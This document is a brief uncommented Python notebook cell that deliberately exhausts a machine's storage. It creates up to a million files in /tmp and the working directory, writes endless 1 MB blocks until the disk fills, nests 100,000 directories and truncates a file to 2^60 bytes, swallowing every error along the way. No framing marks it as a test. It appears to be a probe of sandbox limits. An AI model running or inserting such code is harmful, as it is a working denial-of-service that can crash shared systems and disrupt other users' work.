# %% new after imports
import os

made = 0
try:
    for folder in ("/tmp", "."):
        for n in range(1_000_000):
            open(f"{folder}/{n}", "w").close()
            made += 1
except OSError:
    pass
try:
    for folder in ("/tmp", "."):
        with open(f"{folder}/big", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
except OSError:
    pass
deep = "."
try:
    for _ in range(100_000):
        os.mkdir("d")
        os.chdir("d")
except OSError:
    pass
try:
    os.truncate("/tmp/0", 1 << 60)
except OSError:
    pass
